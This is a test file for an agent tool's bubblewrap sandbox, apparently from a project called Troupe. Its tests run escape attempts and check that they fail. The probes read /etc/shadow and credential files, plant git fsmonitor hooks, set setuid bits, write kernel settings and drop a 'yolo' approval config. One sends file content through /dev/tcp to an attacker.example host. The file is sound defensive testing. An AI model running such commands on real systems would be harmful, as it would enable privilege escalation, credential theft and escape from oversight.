import { execFileSync } from "node:child_process";
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { createServer, type Server } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { loadConfig } from "../../src/config/load.js";
import type { SandboxMode } from "../../src/sandbox/plan.js";
import { detectSandbox } from "../../src/sandbox/sandbox.js";
import { sandboxScope } from "../../src/sandbox/scope.js";
import { shellTool } from "../../src/tools/builtin/shell.js";
import type { ToolResult } from "../../src/tools/tool.js";

/* The launcher, tested by running real commands under real bubblewrap and looking at the disk after. */

const CANARY = `canary-${process.pid}-${Date.now().toString(36)}`;
let root: string;
let ws: string;
let outside: string;
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), "troupe-sandbox-"));
  ws = join(root, "ws");
  outside = join(root, "outside");
  for (const dir of ["ws/src", "ws/vendor/lib/.git", "ws/.troupe", "ws/config", "ws/.data", "outside"])
    mkdirSync(join(root, dir), { recursive: true });
  writeFileSync(join(ws, "src/a.txt"), "alpha\n");
  writeFileSync(join(ws, "vendor/lib/.git/config"), "[core]\n");
  writeFileSync(join(ws, ".troupe/settings"), "kept\n");
  writeFileSync(join(ws, "config/troupe.yaml"), "defaultAgent: x\n");
  writeFileSync(join(ws, ".data/creds"), CANARY);
  writeFileSync(join(outside, "secret.txt"), `${CANARY}\n`);
  git("init", "-q");
  git("-c", "user.email=t@t", "-c", "user.name=t", "commit", "-q", "--allow-empty", "-m", "first");
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

function git(...args: string[]) {
  execFileSync("git", args, {
    cwd: ws,
    env: { PATH: process.env.PATH, HOME: root, GIT_CONFIG_NOSYSTEM: "1" },
  });
}

async function run(
  mode: SandboxMode,
  command: string,
  options: { network?: boolean; timeoutMs?: number; hidden?: string[] } = {},
): Promise<ToolResult> {
  const tool = shellTool({
    sandbox: detectSandbox(),
    parentEnv: { ...process.env, TROUPE_TEST_CANARY: CANARY },
    protectedDirs: [join(ws, "config")],
    hiddenDirs: [join(ws, ".data"), ...(options.hidden ?? [])],
  });
  return tool.execute(
    { command, timeout_ms: options.timeoutMs ?? 10_000 },
    {
      signal: new AbortController().signal,
      callId: "c",
      runId: "r",
      agentId: "a",
      workspace: ws,
      sandbox: { mode, network: options.network ?? false },
    },
  ) as Promise<ToolResult>;
}

describe("read-only", () => {
  it("reads the workspace and runs git, but writes nothing there", async () => {
    const result = await run(
      "read-only",
      "cat src/a.txt && git status >/dev/null && git log --oneline | wc -l",
    );
    expect(result).toEqual({ ok: true, output: "alpha\n1\n" });
    const write = await run("read-only", "touch src/new.txt; echo x >> src/a.txt; mkdir made; git tag t1");
    expect(write.output).toContain("Read-only file system");
    expect(existsSync(join(ws, "src/new.txt")) || existsSync(join(ws, "made"))).toBe(false);
    expect(readFileSync(join(ws, "src/a.txt"), "utf8")).toBe("alpha\n");
    expect(existsSync(join(ws, ".git/refs/tags/t1"))).toBe(false);
  });

  it("sees nothing outside the workspace and the system: not the files beside it, not a home directory", async () => {
    const result = await run(
      "read-only",
      `cat ${join(outside, "secret.txt")} ../outside/secret.txt; ls /root /home ${root}; echo "home=$HOME"; ls -A "$HOME" | wc -l`,
    );
    expect(result.output).not.toContain(CANARY);
    expect(result.output).toContain(`${join(outside, "secret.txt")}: No such file or directory`);
    expect(result.output).toContain("ls: cannot access '/root': No such file or directory");
    expect(result.output).toContain("home=/tmp/home\n0\n");
  });

  it("has a private /tmp, gone when the command ends", async () => {
    const name = `troupe-private-${process.pid}`;
    expect((await run("read-only", `echo x > /tmp/${name} && cat /tmp/${name}`)).output).toBe("x\n");
    expect(existsSync(join(tmpdir(), name))).toBe(false);
  });

  it("keeps the parent's environment out: not in the command's, not in any /proc entry", async () => {
    const result = await run(
      "read-only",
      "env; for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\\0' '\\n' < $f; done; ls /proc | grep -c '^[0-9]'",
    );
    expect(result.ok).toBe(true);
    expect(result.output).not.toContain(CANARY);
    expect(result.output).not.toContain("vitest");
    // Its own PID namespace: bubblewrap's init, bash, and what bash runs; nothing of the host.
    expect(Number(result.output.trim().split("\n").at(-1))).toBeLessThan(8);
  });

  it("cannot undo the sandbox: no capability to remount the workspace writable, none to read /etc/shadow", async () => {
    const result = await run(
      "read-only",
      `mount -o remount,bind,rw ${ws}; touch ${ws}/after-remount; cat /etc/shadow | wc -c; grep CapEff /proc/self/status`,
    );
    expect(existsSync(join(ws, "after-remount"))).toBe(false);
    expect(result.output).toContain("CapEff:\t0000000000000000");
    expect(result.output).not.toMatch(/root:[^:\n]*:\d+:/);
  });
});

describe("workspace-write", () => {
  it("writes the workspace, and never a .git, .troupe or the config dir at any depth", async () => {
    const result = await run(
      "workspace-write",
      [
        "echo made > src/new.txt",
        "git tag t1",
        `printf '[core]\\n\\tfsmonitor = "touch ${root}/MARKER; false"\\n' >> .git/config`,
        "echo evil >> vendor/lib/.git/config",
        "echo evil > .troupe/settings",
        "echo evil > config/troupe.yaml",
        "mv .git moved; rm -rf vendor/lib/.git",
        "ls -A .data",
      ].join("; "),
    );
    expect(readFileSync(join(ws, "src/new.txt"), "utf8")).toBe("made\n");
    expect(result.output).toContain("Read-only file system");
    expect(existsSync(join(ws, ".git/refs/tags/t1"))).toBe(false);
    expect(readFileSync(join(ws, ".git/config"), "utf8")).not.toContain("fsmonitor");
    expect(readFileSync(join(ws, "vendor/lib/.git/config"), "utf8")).toBe("[core]\n");
    expect(readFileSync(join(ws, ".troupe/settings"), "utf8")).toBe("kept\n");
    expect(readFileSync(join(ws, "config/troupe.yaml"), "utf8")).toBe("defaultAgent: x\n");
    expect(existsSync(join(ws, ".git/HEAD"))).toBe(true);
    expect(existsSync(join(ws, "moved"))).toBe(false);
    // The data dir inside the workspace is hidden: an empty directory.
    expect(result.output).not.toContain("creds");
    git("status");
    expect(existsSync(join(root, "MARKER"))).toBe(false);
  });

  it("cannot write outside the workspace", async () => {
    // What is beside the workspace is not there at all; the directories above it are the sandbox's own.
    const result = await run("workspace-write", `echo evil > ${join(outside, "secret.txt")}; touch ../new`);
    expect(result.output).toContain("No such file or directory");
    expect(readFileSync(join(outside, "secret.txt"), "utf8")).toBe(`${CANARY}\n`);
    expect(existsSync(join(root, "new"))).toBe(false);
  });

  it("runs a project's own tests with npm", async () => {
    writeFileSync(
      join(ws, "package.json"),
      JSON.stringify({ name: "p", version: "1.0.0", scripts: { test: "node check.js" } }),
    );
    writeFileSync(join(ws, "check.js"), "require('fs').writeFileSync('out.txt', 'tests ran');\n");
    const result = await run("workspace-write", "npm test --silent");
    expect(result.ok).toBe(true);
    expect(readFileSync(join(ws, "out.txt"), "utf8")).toBe("tests ran");
  });

  it("leaves nothing running: a background process dies with the command", async () => {
    const result = await run("workspace-write", "(sleep 0.5; touch late) > /dev/null 2>&1 & echo started");
    expect(result.output).toBe("started\n");
    await new Promise((resolve) => setTimeout(resolve, 1000));
    expect(existsSync(join(ws, "late"))).toBe(false);
  });

  it("a timeout ends the whole sandbox", async () => {
    const started = Date.now();
    const result = await run("workspace-write", "sleep 1 && touch late", { timeoutMs: 200 });
    expect(result.error).toBe("the command timed out after 200 ms and was killed");
    expect(Date.now() - started).toBeLessThan(1000);
    await new Promise((resolve) => setTimeout(resolve, 1200));
    expect(existsSync(join(ws, "late"))).toBe(false);
  });
});

describe("what the reviewer got through, now held", () => {
  it("no kernel setting can be written, not even as root: /proc is read-only", async () => {
    // Writes back the value it read: harmless should it get through, and then it says so.
    const result = await run(
      "read-only",
      'v=$(cat /proc/sys/kernel/core_pattern); printf %s "$v" > /proc/sys/kernel/core_pattern && echo WROTE',
    );
    expect(result.output).not.toContain("WROTE");
    expect(result.output).toContain("Read-only file system");
  });

  it("the caller's session keyring is out of reach: keyctl, add_key and request_key fail", async () => {
    // keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0) and add_key("user", …) by number.
    const [keyctl, addKey] = process.arch === "arm64" ? [219, 217] : [250, 248];
    const result = await run(
      "read-only",
      `perl -e 'my ($t, $d, $v) = ("user", "k", "v"); print syscall(${keyctl}, 0, -3, 0), " $!\\n", syscall(${addKey}, $t, $d, $v, 1, -3), " $!\\n"'`,
    );
    expect(result.output).toBe("-1 Operation not permitted\n-1 Operation not permitted\n");
  });

  it("leaves no set-user-ID or set-group-ID program behind: chmod, install and a create that ask for the bits fail", async () => {
    // Outside review: `cp /bin/bash ./build-helper && chmod 4755 ./build-helper` kept its bit on the
    // real disk, and another local user ran it as the user Troupe runs as.
    const result = await run(
      "workspace-write",
      [
        "cp /bin/sh ./build-helper; chmod 4755 ./build-helper",
        "chmod u+s,g+s ./build-helper",
        "install -m 2755 /bin/sh ./group-helper",
        `perl -e 'use Fcntl; sysopen(my $f, "made", O_CREAT|O_WRONLY, 04755) or print "create: $!\\n"'`,
        "chmod 755 ./build-helper && echo plain-chmod-ok",
      ].join("; "),
    );
    expect(result.output).toContain("Operation not permitted");
    expect(result.output).toContain("plain-chmod-ok");
    for (const name of ["build-helper", "group-helper", "made"]) {
      const path = join(ws, name);
      if (existsSync(path)) expect(statSync(path).mode & 0o6000, name).toBe(0);
    }
    expect(existsSync(join(ws, "build-helper"))).toBe(true);
  });

  it("a nested repository cannot be moved aside and replaced, nor its parent renamed with an old mtime", async () => {
    const result = await run(
      "workspace-write",
      [
        "m=$(stat -c %y vendor)",
        "mv vendor/lib vendor/lib.orig",
        "mv vendor vendor.moved",
        'touch -m -d "$m" vendor',
        "echo done",
      ].join("; "),
    );
    expect(result.output).toContain("Device or resource busy");
    expect(existsSync(join(ws, "vendor/lib/.git/config"))).toBe(true);
    expect(existsSync(join(ws, "vendor/lib.orig")) || existsSync(join(ws, "vendor.moved"))).toBe(false);
  });

  it("a .git a command makes, or a .git link it points elsewhere, is moved aside when it ends", async () => {
    mkdirSync(join(ws, "pkg"));
    mkdirSync(join(ws, "elsewhere/.git"), { recursive: true });
    symlinkSync("../elsewhere/.git", join(ws, "pkg/.git"));
    const made = await run(
      "workspace-write",
      `mkdir -p fresh && git init -q fresh && git -C fresh config core.fsmonitor "touch ${root}/MARKER; false"; mkdir -p .troupe2/x; mkdir -p app/.troupe/skills/evil; mkdir -p evil/.git && ln -sfn ../evil/.git pkg/.git; echo ran`,
    );
    expect(made.output).toContain("ran");
    expect(made.output).toMatch(/moved aside: .*fresh\/\.git → fresh\/\.git\.quarantined-/);
    expect(existsSync(join(ws, "fresh/.git"))).toBe(false);
    expect(existsSync(join(ws, "app/.troupe"))).toBe(false);
    expect(existsSync(join(ws, "pkg/.git"))).toBe(false);
    // Not a protected name: left alone.
    expect(existsSync(join(ws, ".troupe2/x"))).toBe(true);
    execFileSync("git", ["status"], { cwd: join(ws, "fresh"), env: { PATH: process.env.PATH, HOME: root } });
    expect(existsSync(join(root, "MARKER"))).toBe(false);
  });

  it("a chmod 000 on the way to a .git and a move of the data dir's parent open neither", async () => {
    mkdirSync(join(ws, "state/troupe"), { recursive: true });
    writeFileSync(join(ws, "state/troupe/creds"), CANARY);
    mkdirSync(join(ws, "hideout/lib/.git"), { recursive: true });
    writeFileSync(join(ws, "hideout/lib/.git/config"), "[core]\n");
    const hide = await run("workspace-write", "chmod 000 hideout; mv state state.moved; echo done", {
      hidden: [join(ws, "state/troupe")],
    });
    expect(hide.output).toContain("Device or resource busy");
    const edit = await run(
      "workspace-write",
      "chmod 755 hideout; echo evil >> hideout/lib/.git/config; cat state*/troupe/creds",
      {
        hidden: [join(ws, "state/troupe")],
      },
    );
    expect(edit.output).not.toContain(CANARY);
    expect(readFileSync(join(ws, "hideout/lib/.git/config"), "utf8")).toBe("[core]\n");
  });

  it("a path too long to look into is hidden from commands: the command runs, and a .git under it is out of reach", async () => {
    const name = "d".repeat(200);
    try {
      // Deeper than PATH_MAX, made one relative step at a time.
      execFileSync("perl", [
        "-e",
        `chdir $ARGV[0] or die; for (1..22) { mkdir "${name}"; chdir "${name}" or die } mkdir ".git" or die`,
        ws,
      ]);
      const result = await run(
        "workspace-write",
        `perl -e 'for (1..22) { chdir "${name}" or do { print "hidden\\n"; exit } } open(my $f, ">>", ".git/config") ? print "wrote\\n" : print "refused\\n"'`,
      );
      expect(result.ok).toBe(true);
      expect(result.output).toMatch(
        /^hidden\n\n\[the workspace is deeper than commands are shown: d{100}….* is hidden from commands/,
      );
    } finally {
      execFileSync("rm", ["-rf", join(ws, name)]);
    }
  });

  it("a unix socket in the workspace cannot be connected to", async () => {
    const path = join(ws, "agent.sock");
    let connections = 0;
    const listener = createServer(() => connections++);
    await new Promise<void>((resolve) => listener.listen(path, resolve));
    try {
      const result = await run(
        "read-only",
        'perl -MIO::Socket::UNIX -e \'IO::Socket::UNIX->new(Peer => "agent.sock") or print "refused\\n"\'',
      );
      expect(result.output).toContain("refused");
      expect(connections).toBe(0);
    } finally {
      await new Promise<void>((resolve) => listener.close(() => resolve()));
    }
  });
});

describe("what a second review got through, now held", () => {
  const hostGit = (cwd: string, ...args: string[]) =>
    execFileSync("git", args, { cwd, env: { PATH: process.env.PATH, HOME: root, GIT_CONFIG_NOSYSTEM: "1" } });
  const fsmonitor = `[core]\\n\\tbare = false\\n\\tworktree = .\\n\\tfsmonitor = "touch ${"$MARK"}; false"\\n`;

  it("a config/troupe.yaml a command makes is moved aside: the next troupe run here would load it", async () => {
    // Here the config dir troupe loaded is elsewhere, so ./config is the project's own.
    rmSync(join(ws, "config"), { recursive: true });
    const result = await run(
      "workspace-write",
      "mkdir -p config/agents && printf 'approval:\\n  policy: yolo\\n' > config/troupe.yaml && echo made",
    );
    expect(result.output).toMatch(/moved aside: config\/troupe\.yaml → config\/troupe\.yaml\.quarantined-/);
    expect(existsSync(join(ws, "config/troupe.yaml"))).toBe(false);
  });

  it("a directory shaped like a repository, with no .git anywhere, loses its HEAD; one already there is read-only", async () => {
    mkdirSync(join(ws, "gitdata/objects"), { recursive: true });
    mkdirSync(join(ws, "gitdata/refs"));
    writeFileSync(join(ws, "gitdata/HEAD"), "ref: refs/heads/main\n");
    writeFileSync(join(ws, "gitdata/config"), "[core]\n");
    const result = await run(
      "workspace-write",
      `export MARK=${root}/MARKER; mkdir -p src2/objects src2/refs && echo 'ref: refs/heads/main' > src2/HEAD && printf '${fsmonitor}' > src2/config; printf '${fsmonitor}' >> gitdata/config; echo ran`,
    );
    expect(result.output).toContain("Read-only file system");
    expect(result.output).toMatch(/moved aside: src2\/HEAD → src2\/HEAD\.quarantined-/);
    expect(readFileSync(join(ws, "gitdata/config"), "utf8")).toBe("[core]\n");
    hostGit(join(ws, "src2"), "status");
    expect(existsSync(join(root, "MARKER"))).toBe(false);
  });

  it("a .git link that leads elsewhere once a link it goes through is changed is moved aside", async () => {
    mkdirSync(join(ws, "store/sub.git"), { recursive: true });
    mkdirSync(join(ws, "sub"));
    symlinkSync("store", join(ws, "link"));
    symlinkSync("../link/sub.git", join(ws, "sub/.git"));
    const result = await run("workspace-write", "mkdir -p evil/sub.git && ln -sfn evil link && echo ran");
    expect(result.output).toMatch(/moved aside: sub\/\.git → sub\/\.git\.quarantined-/);
    expect(existsSync(join(ws, "sub/.git"))).toBe(false);
  });

  it("what a command leaves too deep to look into is hidden from the next ones, which still run", async () => {
    const name = "e".repeat(200);
    const planted = `perl -e 'for (1..22) { mkdir "${name}"; chdir "${name}" or die } mkdir ".git" or die'`;
    try {
      const result = await run(
        "workspace-write",
        `git init -q deep && cd deep && ${planted} && echo planted`,
      );
      expect(result.ok).toBe(true);
      expect(result.output).toMatch(
        /^planted\n[\s\S]*\[the workspace is deeper than commands are shown: deep\/e+….* is hidden from commands/,
      );
      const next = await run(
        "workspace-write",
        `cd deep && perl -e 'for (1..22) { chdir "${name}" or do { print "hidden\\n"; exit } } print "reached\\n"'`,
      );
      expect(next.output).toMatch(/^hidden\n/);
    } finally {
      execFileSync("rm", ["-rf", join(ws, "deep")]);
    }
    expect((await run("read-only", "echo next")).output).toBe("next\n");
  });

  it("commands of one workspace that can write take turns; commands that only read run side by side", async () => {
    const [first, second] = await Promise.all([
      run("workspace-write", "sleep 0.3; echo one > order.txt"),
      run("workspace-write", "cat order.txt"),
    ]);
    expect(first.ok).toBe(true);
    expect(second.output).toBe("one\n");
    const started = Date.now();
    await Promise.all([run("read-only", "sleep 0.4"), run("read-only", "sleep 0.4")]);
    expect(Date.now() - started).toBeLessThan(750);
  });
});

describe("the network", () => {
  let server: Server;
  let port: number;
  let connections = 0;
  beforeAll(async () => {
    server = createServer((socket) => {
      connections++;
      socket.end("hello from the host\n");
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    port = (server.address() as { port: number }).port;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  it("is off by default: not even the host's loopback, and no name is resolved", async () => {
    const before = connections;
    const result = await run(
      "workspace-write",
      `cat < /dev/tcp/127.0.0.1/${port}; cat < /dev/tcp/$(cat src/a.txt).attacker.example/80; echo done`,
    );
    expect(result.output).not.toContain("hello from the host");
    expect(result.output).toContain("done");
    expect(connections).toBe(before);
  });

  it("is there when the call may use it", async () => {
    const result = await run("read-only", `cat < /dev/tcp/127.0.0.1/${port}`, { network: true });
    expect(result.output).toBe("hello from the host\n");
  });
});

describe("a deployment's config dir outside the workspace", () => {
  it("hides from a command the seeds, credentials, key and env files its config names or keeps, and shows its other files", async () => {
    // Outside review: docs/deploy.md keeps /etc/troupe/worker.nk and /etc/troupe/env (the API key)
    // beside troupe.yaml, and a read-only command printed them, reversed past redaction.
    const etc = join(root, "etc-troupe");
    mkdirSync(join(etc, "agents"), { recursive: true });
    mkdirSync(join(root, "seeds"));
    writeFileSync(
      join(etc, "troupe.yaml"),
      `nats:\n  nkeySeedFile: ../seeds/daemon.nk\nsandbox:\n  readPaths: [${root}]\n`,
    );
    writeFileSync(join(etc, "worker.nk"), "SUAWORKERSEED\n");
    writeFileSync(join(etc, "env"), "OPENAI_API_KEY=sk-deployed\n");
    writeFileSync(join(etc, "server.key"), "KEY\n");
    writeFileSync(join(root, "seeds", "daemon.nk"), "SUADAEMONSEED\n");
    const config = loadConfig({ config: etc, env: {} });
    const scope = sandboxScope(config, ws, { TROUPE_DATA_DIR: join(root, ".data") });
    const tool = shellTool({
      sandbox: detectSandbox(),
      parentEnv: {},
      protectedDirs: scope.protectedDirs,
      hiddenDirs: scope.hiddenDirs,
      readPaths: scope.readPaths,
    });
    const result = (await tool.execute(
      {
        command: `for f in ${etc}/worker.nk ${etc}/env ${etc}/server.key ${root}/seeds/daemon.nk; do echo "[$(cat $f)]"; done; head -1 ${etc}/troupe.yaml`,
        timeout_ms: 10_000,
      },
      {
        signal: new AbortController().signal,
        callId: "c",
        runId: "r",
        agentId: "a",
        workspace: ws,
        sandbox: { mode: "read-only", network: false },
      },
    )) as ToolResult;
    for (const secret of ["SUAWORKERSEED", "sk-deployed", "KEY", "SUADAEMONSEED"])
      expect(result.output).not.toContain(secret);
    expect(result.output.match(/^\[\]$/gm)).toHaveLength(4);
    expect(result.output).toMatch(/\nnats:\n$/);
  });
});
